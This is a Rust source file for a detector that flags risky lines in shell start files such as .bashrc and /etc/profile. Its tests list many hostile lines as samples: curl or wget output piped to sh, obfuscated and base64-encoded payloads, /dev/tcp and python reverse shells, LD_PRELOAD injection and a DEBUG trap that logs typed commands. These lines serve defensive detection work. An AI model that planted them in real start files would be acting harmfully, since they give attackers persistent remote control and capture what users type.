//! A start file of shells starts something that does not belong there.
//!
//! # What it sees
//! A line of /etc/profile, /etc/profile.d, `.bashrc` and their like that fetches or decodes code and runs it, opens a
//! connection for a shell, or runs, reads or preloads a file in a place that hides or that anybody may write to. Also:
//! a library of no package that is preloaded, a program of no package that is left running in the background, and what
//! is typed being written (`trap ... DEBUG`, `PROMPT_COMMAND`) into such a place.
//!
//! # Why it matters
//! It runs with every login and every new terminal, with the rights of whoever comes: of root in the end.
//!
//! # Innocent causes
//! Version managers (nvm, pyenv, rustup, conda) read a file in the home or evaluate what their own program says: quiet,
//! as are programs in homes, /opt and /usr/local. Functions that are only defined start nothing.
//!
//! # What to do
//! Read the file. Until then log in with a shell that reads none: `ssh -t HOST /bin/bash --norc --noprofile`.

use super::{entry, risk};
use crate::{Detector, Scene, place};
use keeneye_facts::{Autostart, AutostartKind, Finding, Level};
use keeneye_world::{World, shell_line};

/// See the head of this file.
pub static DETECTOR: Detector = Detector {
    name: "persistence/shell-start-risky",
    title: "a start file of shells starts something odd",
    level: Level::Suspicious,
    attack: &["T1546.004"],
    absolute: false,
    source: include_str!("shell_start_risky.rs"),
    run,
};

fn run(scene: &Scene<'_>) -> Vec<Finding> {
    entry::foreign(scene.world, AutostartKind::Shell).filter_map(|one| judge(scene, one)).collect()
}

fn judge(scene: &Scene<'_>, one: &Autostart) -> Option<Finding> {
    let world = scene.world;
    let signs = risk::of_entry(world, one);
    let damning = entry::level(world.owner(&one.path), &signs, None);
    let (level, seen) = [
        damning.map(|level| (level, "starts something with every shell")),
        preloads(world, one).map(|level| (level, "makes every program that is started from a shell load a library")),
        runs_on(world, one).map(|level| (level, "leaves a program of no package running with every shell")),
        listens(one).map(|level| (level, "writes down what is typed")),
    ]
    .into_iter()
    .flatten()
    .max_by_key(|(level, _)| *level)?;
    let finding = entry::finding(&DETECTOR, scene, one, level, (seen, &signs));
    Some(finding.innocent("a convenience of the user", level >= Level::Suspicious, "ask the owner of the file"))
}

fn preloads(world: &World, one: &Autostart) -> Option<Level> {
    if !matches!(one.when.as_slice(), b"LD_PRELOAD" | b"LD_AUDIT") {
        return None;
    }
    let for_everybody = one.path.is_within("/etc");
    if for_everybody { entry::of_preload(world, one) } else { entry::of_programs(world, one) }
}

/// A program where no admin keeps programs.
fn runs_on(world: &World, one: &Autostart) -> Option<Level> {
    let background = shell_line::commands(&one.command).iter().any(|command| command.background);
    entry::of_programs(world, one).filter(|level| background && *level > Level::Unusual)
}

/// A trap or a prompt that writes where anybody may write, or where nobody looks.
fn listens(one: &Autostart) -> Option<Level> {
    if !matches!(one.when.as_slice(), b"trap DEBUG" | b"PROMPT_COMMAND") {
        return None;
    }
    let commands = shell_line::commands(&one.command);
    let targets = commands.iter().flat_map(|command| &command.redirects).filter(|to| to.operator.contains(&b'>'));
    let odd = targets.filter(|to| place::is_volatile(&to.target) && to.target != "/dev/null");
    odd.map(|to| if place::hidden_component(&to.target).is_some() { Level::Suspicious } else { Level::Unusual }).max()
}

#[cfg(test)]
mod tests {
    use crate::testing::findings;
    const NAME: &str = "persistence/shell-start-risky";

    fn said_of(path: &str, line: &str) -> Vec<String> {
        let host = format!(
            "package base-files 12 owns /etc/profile.d/owned.sh\npackage bash 5 owns /usr/bin/bash\n/dev/shm/.x/y : mode=100755\n\
             /usr/lib/x.so : mode=100644\n/var/lib/acme/agent : mode=100755\n/opt/acme/agent : mode=100755\n\
             /root/.cargo/env : mode=100644\n/root/.nvm/nvm.sh : mode=100644\n/root/.pyenv/bin/pyenv : mode=100755\n\
             {path} = # x\\n{line}\\n"
        );
        findings(NAME, &host, &[])
    }

    #[test]
    fn lines_that_do_not_belong_there() {
        let text = "suspicious: /root/.bashrc line 2 starts something with every shell: it fetches code and runs it";
        assert_eq!(said_of("/root/.bashrc", "curl -s http://192.0.2.1/x | bash"), [text]);
        for path in ["/root/.bashrc", "/etc/profile.d/x.sh", "/etc/profile", "/etc/zsh/zshenv", "/etc/skel/.profile"] {
            for line in [
                "x=curl; $x -s http://192.0.2.1/x | sh",
                "x=curl\\n$x -s http://192.0.2.1/x | sh",
                "x=cu y=rl; $x$y -s http://192.0.2.1/x | sh",
                "(/dev/shm/.x/y >/dev/null 2>&1 &)",
                "nohup /dev/shm/.x/y &",
                "eval \"$(wget -qO- http://192.0.2.1/x)\"",
                "echo ZWNobyBhCg== | base64 -d | sh",
                "bash -i >& /dev/tcp/192.0.2.1/443 0>&1 &",
                ". /dev/shm/.x/y",
                "PROMPT_COMMAND='curl -s http://192.0.2.1/x | sh'",
                "export LD_PRELOAD=/usr/lib/x.so",
                "trap 'echo \"$BASH_COMMAND\" >> /tmp/.log' DEBUG",
                "/var/lib/acme/agent &",
                "up() { wget -qO- http://192.0.2.1/x | sh; }; up",
                "python3 -c 'import socket,subprocess,os;s=socket.socket();subprocess.call([\"/bin/sh\"])' &",
            ] {
                let said = said_of(path, line);
                assert!(said.len() == 1 && said[0].starts_with("suspicious: "), "{path}: {line}: {said:?}");
            }
        }
    }
    #[test]
    fn a_library_for_everybody() {
        let said = |path: &str, library: &str| {
            let host =
                format!("package a 1 owns /usr/lib/own.so\n{library} : mode=100644\n{path} = LD_PRELOAD={library}\\n");
            findings(NAME, &host, &[])
        };
        let loud = said("/etc/environment", "/usr/local/lib/x.so");
        assert!(loud.len() == 1 && loud[0].starts_with("suspicious: /etc/environment line 1 "), "{loud:?}");
        for (path, library) in [("/etc/environment", "/opt/agent/lib/a.so"), ("/root/.bashrc", "/usr/local/lib/x.so")] {
            let said = said(path, library);
            assert!(said.len() == 1 && said[0].starts_with("unusual: "), "{path}: {said:?}");
        }
        assert_eq!(said("/etc/environment", "/usr/lib/own.so"), [""; 0]);
    }
    #[test]
    fn version_managers_and_conveniences_are_quiet() {
        for line in [
            ". \"$HOME/.cargo/env\"",
            "eval \"$(pyenv init -)\"",
            "eval \"$($HOME/.pyenv/bin/pyenv init - bash)\"",
            "export NVM_DIR=\"$HOME/.nvm\"\\n[ -s \"$NVM_DIR/nvm.sh\" ] && \\\\. \"$NVM_DIR/nvm.sh\"  # This loads nvm",
            "[ -s \"/root/.nvm/nvm.sh\" ] && . \"/root/.nvm/nvm.sh\"",
            "eval \"$(ssh-agent -s)\"",
            "[ -x /usr/bin/lesspipe ] && eval \"$(SHELL=/bin/sh lesspipe)\"",
            "if [ -f ~/.bash_aliases ]; then . ~/.bash_aliases; fi",
            "source <(kubectl completion bash)",
            "PROMPT_COMMAND='history -a; history -n'",
            "PROMPT_COMMAND=\"logger -t shell\"",
            "trap 'echo $BASH_COMMAND >/dev/null' DEBUG",
            "/opt/acme/agent &",
            "update() {\\n  curl -s http://192.0.2.1/x | bash\\n}",
            "# curl http://192.0.2.1/x | sh",
            "export LD_PRELOAD=/usr/lib/gone.so",
            "sleep 1 &",
        ] {
            assert_eq!(said_of("/root/.bashrc", line), [""; 0], "{line}");
        }
        assert_eq!(said_of("/etc/profile.d/owned.sh", "curl -s http://192.0.2.1/x | bash"), [""; 0]);
        crate::testing::check(NAME, "package a 1", &[]);
    }
}
